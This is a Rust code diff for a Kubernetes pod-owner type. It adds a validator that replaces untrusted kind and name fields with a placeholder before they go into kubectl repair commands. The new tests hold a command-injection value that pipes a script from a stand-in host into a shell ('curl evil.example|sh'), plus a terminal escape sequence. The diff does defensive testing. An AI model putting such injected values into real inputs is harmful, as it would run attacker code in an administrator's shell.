@@ -4,7 +4,10 @@ use std::fmt;
 
 use serde_json::Value;
 
-use crate::fields::{flag, list, text};
+use crate::{
+    fields::{flag, list, text},
+    settings::is_dns_label,
+};
 
 /// The controller of a pod, by which people know it.
 #[derive(Clone, Debug, Default, PartialEq, Eq, PartialOrd, Ord)]
@@ -23,13 +26,23 @@ impl Owner {
         let Some(owner) = references.find(|reference| flag(reference, "/controller") == Some(true)) else {
             return Self::default();
         };
-        let owner = Self { kind: text(owner, "/kind").to_owned(), name: text(owner, "/name").to_owned() };
+        let owner = Self::named(text(owner, "/kind"), text(owner, "/name"));
         let hash = text(pod, "/metadata/labels/pod-template-hash");
         let deployment = owner.name.strip_suffix(hash).and_then(|name| name.strip_suffix('-'));
         match deployment.filter(|_| owner.kind == "ReplicaSet" && !hash.is_empty()) {
             Some(name) => Self { kind: "Deployment".to_owned(), name: name.to_owned() },
             None => owner,
         }
+    }
+
+    /// What is no name of Kubernetes is not told: whoever creates a pod can write anything there, and the cure is a command
+    /// for an administrator's shell.
+    fn named(kind: &str, name: &str) -> Self {
+        let is_kind = !kind.is_empty() && kind.bytes().all(|c| c.is_ascii_alphanumeric());
+        if is_kind && name.split('.').all(is_dns_label) {
+            return Self { kind: kind.to_owned(), name: name.to_owned() };
+        }
+        Self { kind: "owner".to_owned(), name: "?".to_owned() }
     }
 
     /// How its pods are made anew.
@@ -78,6 +91,8 @@ mod tests {
             ("ReplicaSet", "api-5d4f", json!("other"), "replicaset/api-5d4f"),
             ("StatefulSet", "db-5d4f", json!("5d4f"), "statefulset/db-5d4f"),
             ("Job", "nightly", json!(null), "job/nightly"),
+            ("Deployment", "x; curl evil.example|sh #", json!(null), "owner/?"),
+            ("Ev\u{1b}[31mil", "x", json!(null), "owner/?"),
         ] {
             assert_eq!(owner(kind, name, hash).to_string(), expected);
         }
@@ -89,6 +104,6 @@ mod tests {
         let cure = |kind: &str| owner(kind, "x", json!(null)).cure("ns", &["x-1", "x-2"]);
         assert_eq!(cure("DaemonSet"), "kubectl rollout restart -n ns daemonset/x");
         assert_eq!(cure("Job"), "kubectl delete pod -n ns x-1 x-2");
-        assert!(cure("").contains("create it anew"));
+        assert!(Owner::default().cure("ns", &["x-1"]).contains("create it anew"));
     }
 }
